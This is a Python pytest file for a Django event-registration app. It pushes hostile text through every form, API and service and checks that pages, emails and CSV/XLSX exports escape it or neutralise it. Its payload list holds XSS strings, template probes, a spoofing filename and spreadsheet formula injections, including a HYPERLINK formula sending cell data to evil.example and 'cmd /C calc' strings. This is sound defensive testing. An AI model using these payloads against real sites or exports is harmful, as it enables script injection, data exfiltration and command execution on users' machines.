"""Hostile text through every text field, shown escaped on every page, email and export.

Each payload goes in through the event form (every multilingual text, in pl, uk and en), a custom
question's label, the registration form (every text field and the answer to a text question), the
API and the services. Then every page, email and export that shows those values is read back:
no response is a 500, no payload's markup survives as markup, exports neutralise formulas.
"""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser

import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.utils.html import escape
from openpyxl import load_workbook

from civicmeet.core.errors import DomainError
from civicmeet.events.services import questions_replace
from civicmeet.notifications.models import OutgoingEmail
from civicmeet.registrations.models import Registration
from civicmeet.registrations.services import registration_decide
from civicmeet.registrations.tests.test_exports import xlsx_export

from .forms import read_form

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "attribute_break": '"><img src=x onerror=alert(1)>',
    "single_quote_break": "'><svg onload=alert(1)>",
    "javascript_url": "javascript:alert(1)",
    "template": "{{7*7}} {% debug %} ${7*7}",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus_cmd": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at_sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab_formula": "\t=1+1",
    "rtl_override": "Olena \u202egnp.exe\u202c Kowal",
    "long": "Ж" * 5000,
    "nul": "Olena\x00<b>bold</b>",
    "entities": "&lt;script&gt; &amp; &#x3C;",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# The event form's texts (per language) and the registration form's texts.
EVENT_TEXTS = (
    "title",
    "description",
    "agenda",
    "venue",
    "conditions",
    "safety_rules",
    "processing_purpose",
    "privacy_notice",
)
REGISTRATION_TEXTS = (
    "first_name",
    "last_name",
    "organisation_name",
    "organisation_role",
    "dietary_details",
    "accessibility_needs",
    "interpreting_needs",
)


def _ok(response, what: str):
    assert response.status_code < 500, f"{what}: {response.status_code}"
    return response


class _LiveMarkup(HTMLParser):
    """Collects what a browser would run or load from a page: the markup that matters."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        names = {name for name, _value in attrs}
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "formaction") and (value or "").strip().lower().startswith(
                "javascript:"
            ):
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag == "script" and "src" not in names and ("type", "application/json") not in attrs:
            self.problems.append("inline <script>")
        if tag in ("svg", "iframe", "object", "embed", "base") and not _ours(tag, attrs):
            self.problems.append(f"<{tag}>")
        if tag == "img" and dict(attrs).get("src") == "x":
            self.problems.append("<img src=x>")


def _ours(tag: str, attrs) -> bool:
    """The inline SVG pictures civicmeet draws itself: a ticket's QR code (checkin.qr.qr_svg, class
    "qr") and a chart (checkin.charts). A payload's <svg> has neither class (and its handlers are
    caught above whatever it carries)."""
    classes = set((dict(attrs).get("class") or "").split())
    return tag == "svg" and bool(classes & {"qr", "chart"})


def assert_html_is_safe(page: str, payload: str, where: str) -> None:
    if any(char in payload for char in "<>\"'"):
        assert payload not in page, f"{where}: the payload's markup is in the page unescaped"
    # Whatever the payload, no markup it carries may become live.
    parser = _LiveMarkup()
    parser.feed(page)
    assert parser.problems == [], where


def _shown(payload: str) -> str:
    """What a page shows for the payload, escaped (for payloads that fit every field)."""
    return escape(payload)


@pytest.fixture
def hostile(organiser, event, client, run_on_commit):
    """Everything filled with one payload; returns (payload, registrations)."""

    def fill(payload: str):
        client.force_login(organiser)
        # 1. The event form: every multilingual text, in every language.
        data, text_fields = read_form(
            _ok(client.get(f"/en/manage/events/{event.slug}/edit/"), "edit form").content.decode()
        )
        targets = [name for name in text_fields if name.startswith(EVENT_TEXTS)]
        assert len(targets) >= 3 * 4, f"the event form's texts were not found: {text_fields}"
        for name in targets:
            data[name] = [payload]
        _ok(client.post(f"/en/manage/events/{event.slug}/edit/", data), "event form")
        event.refresh_from_db()
        # 2. A custom text question whose label is the payload too (organisers type it). NUL
        # characters are refused by the service (PostgreSQL cannot store them in JSON).
        label = payload[:200]
        if "\x00" in label:
            with pytest.raises(ValidationError):
                questions_replace(
                    event=event, questions=[{"key": "note", "kind": "short_text", "label": {"pl": label}}]
                )
            label = label.replace("\x00", "")
        questions_replace(
            event=event,
            questions=[
                {
                    "key": "note",
                    "kind": "short_text",
                    "label": {"pl": label, "uk": label, "en": label},
                    "required": False,
                    "options": [],
                }
            ],
        )
        client.logout()
        # 3. The registration form, every text field and the answer.
        with run_on_commit(execute=True):
            data, text_fields = read_form(
                _ok(client.get(f"/en/e/{event.slug}/register/"), "register form").content.decode()
            )
            targets = [name for name in text_fields if name.startswith(REGISTRATION_TEXTS) or "note" in name]
            assert "first_name" in targets and any("note" in name for name in targets), text_fields
            for name in targets:
                data[name] = [payload]
            data.update(
                email=["form@example.org"], organisation_type=["migrant"], language=["uk"], consent_processing=["on"]
            )
            _ok(client.post(f"/en/e/{event.slug}/register/", data), "registration form")
        # 4. The API, every text field and the answer.
        body = {name: payload for name in REGISTRATION_TEXTS}
        body.update(
            email="api@example.org",
            organisation_type="migrant",
            language="en",
            consent_processing=True,
            answers={"note": payload},
        )
        with run_on_commit(execute=True):
            _ok(
                client.post(
                    f"/api/v1/events/{event.slug}/registrations", json.dumps(body), content_type="application/json"
                ),
                "API registration",
            )
        # 5. A short version through the form, so that something certainly gets stored and shown.
        short = payload[:90].replace("\x00", "")
        with run_on_commit(execute=True):
            data, _fields = read_form(client.get(f"/en/e/{event.slug}/register/").content.decode())
            data.update(
                first_name=[short],
                last_name=[short],
                organisation_name=[short],
                email=["short@example.org"],
                organisation_type=["migrant"],
                language=["pl"],
                consent_processing=["on"],
            )
            data.update({name: [short] for name in data if "note" in name})
            _ok(client.post(f"/en/e/{event.slug}/register/", data), "short registration")
        registrations = list(Registration.objects.filter(event=event))
        # Decisions with the payload as the organisers' message: the emails carry it.
        with run_on_commit(execute=True):
            for registration in registrations:
                try:
                    registration_decide(
                        registration=registration,
                        decision="accept",
                        actor=organiser,
                        message=payload[:1000],
                        confirm=True,
                    )
                except DomainError:
                    continue  # a refusal (no seat…) is fine: only what the pages and emails show matters
        return registrations

    return fill


@pytest.fixture(autouse=True)
def _private_exports(settings, tmp_path):
    """XLSX exports are written under VAR_DIR/exports: a directory of this test's own."""
    settings.VAR_DIR = tmp_path


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_payload_is_shown_escaped_everywhere(hostile, payload, client, organiser, event):
    registrations = hostile(payload)
    assert registrations, "no registration was stored: the test would prove nothing"
    stored = [r for r in registrations if r.first_name not in ("", None)]
    simple = "\x00" not in payload and len(payload) < 90
    if simple:
        # The form, the API and the short form all took it: the payload really went everywhere.
        assert sorted(r.email for r in registrations) == ["api@example.org", "form@example.org", "short@example.org"]
        by_email = {r.email: r for r in registrations}
        assert by_email["form@example.org"].answers == {"note": payload.strip()}
        assert by_email["api@example.org"].accessibility_needs == payload.strip()

    # Public and personal pages.
    for language in ("pl", "uk", "en"):
        for path in (
            f"/{language}/",
            f"/{language}/e/{event.slug}/",
            f"/{language}/e/{event.slug}/register/",
            f"/{language}/e/{event.slug}/privacy/",
        ):
            page = _ok(client.get(path), path).content.decode()
            assert_html_is_safe(page, payload, path)
    for registration in stored:
        for suffix in ("", "received/", "edit/", "cancel/", "erase/"):
            path = f"/en/r/{registration.token}/{suffix}"
            assert_html_is_safe(_ok(client.get(path), path).content.decode(), payload, path)
        data = _ok(client.get(f"/en/r/{registration.token}/data.json"), "data.json")
        assert data["Content-Type"].startswith("application/json")

    # Organiser pages.
    client.force_login(organiser)
    base = f"/en/manage/events/{event.slug}/"
    pages = [
        "/en/manage/",
        base,
        base + "catering/",
        base + "emails/",
        base + "edit/",
        base + "questions/",
        base + "team/",
        base + "data-protection/",
        base + "guests/new/",
        f"{base}?q={payload[:100]}",
    ]
    pages += [f"{base}registrations/{r.pk}/" for r in stored]
    for path in pages:
        page = _ok(client.get(path), path).content.decode()
        assert_html_is_safe(page, payload, path)
    if simple:
        dashboard = client.get(base).content.decode()
        assert _shown(payload[:90].strip()) in dashboard, "the short registration's name is not on the dashboard"
        event.refresh_from_db()
        assert set(event.title.values()) == {payload.strip()}, "the event form did not store the payload"
        assert _shown(payload.strip()) in client.get(f"/uk/e/{event.slug}/").content.decode()

    # Exports: no formula in any cell: neutralised in the CSV, typed string cells in the XLSX.
    csv_response = _ok(client.get(base + "export.csv"), "CSV")
    text = b"".join(csv_response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=_delimiter(text)))
    assert len(rows) == len(registrations) + 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"CSV cell {cell!r} would run as a formula"
    download = xlsx_export(client, event)  # started by POST, built by the task, downloaded
    xlsx = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    for sheet in xlsx.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"XLSX cell {cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    # Written exactly as typed, as a typed string cell (docs/decisions/0002-…).
                    assert cell.data_type == "s", f"XLSX cell {cell.value!r} is not a string cell"

    # Emails: HTML parts escaped, subjects on one line.
    emails = list(OutgoingEmail.objects.all())
    assert emails, "no email was written: the test would prove nothing"
    for email in emails:
        assert "\n" not in email.subject and "\r" not in email.subject
        if email.body_html:
            assert_html_is_safe(email.body_html, payload, f"email {email.kind} (HTML)")
        assert "<script>alert" not in email.body_text or "<script>" in payload
    for message in mail.outbox:
        for content, mimetype in getattr(message, "alternatives", []):
            if mimetype == "text/html":
                assert_html_is_safe(content, payload, f"sent email {message.subject}")
    # Last: closing the FileResponse ends its request, and the test client then closes the database
    # connection, which the checks above still need.
    download.close()


def _delimiter(text: str) -> str:
    first = text.splitlines()[0] if text else ""
    return ";" if first.count(";") > first.count(",") else ","


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_api_answers_hostile_text_without_a_server_error(client, event, payload):
    """Everything else in the API, with the payload where a string goes."""
    for path in (f"/api/v1/events/{payload}", f"/api/v1/registrations/{payload}", f"/api/v1/events?page={payload}"):
        assert client.get(path).status_code < 500, path
    body = json.dumps({"decision": payload, "message": payload})
    response = client.post(
        f"/api/v1/events/{event.slug}/registrations/1/decision",
        body,
        content_type="application/json",
        headers={"Authorization": f"Bearer {payload}"},
    )
    assert response.status_code in (401, 422)
